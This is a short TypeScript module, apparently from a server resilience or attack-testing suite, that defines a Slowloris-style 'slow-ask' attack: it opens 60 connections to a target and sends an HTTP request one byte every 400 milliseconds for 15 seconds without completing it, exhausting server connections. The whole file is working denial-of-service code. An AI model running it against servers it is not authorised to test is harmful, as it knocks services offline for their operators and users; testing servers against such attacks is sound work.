import type {Socket} from 'node:net';
import {sendCrowd} from '../crowd.ts';
import {serverAttack} from '../server-attack.ts';
import {linger, send} from '../wire.ts';

const CONNECTIONS = 60;

/** Between two bytes of the request, in milliseconds: always a byte in time, never a whole line. */
const BYTE_EVERY_MS = 400;

/** How long the question is drawn out, in milliseconds. */
const HOLD_MS = 15_000;

/** A question that is always being asked and never finished. */
export const slowAsk = serverAttack({
	name: 'slow-ask',
	title: `asks on ${CONNECTIONS} connections, one byte of the request at a time, and never ends the line`,
	async strikeAt(prey, scene) {
		const sockets = await sendCrowd(prey, scene, {attack: 'slow-ask', connections: CONNECTIONS, overMs: 500});
		await Promise.all(sockets.map(askSlowly));
	},
});

const askSlowly = async (socket: Socket): Promise<void> => {
	const until = performance.now() + HOLD_MS;
	for (let bytes = 'GET '; performance.now() < until; bytes = 'n') {
		if (!(await send(socket, bytes)) || !(await linger(socket, BYTE_EVERY_MS))) {
			return;
		}
	}

	socket.destroy();
};
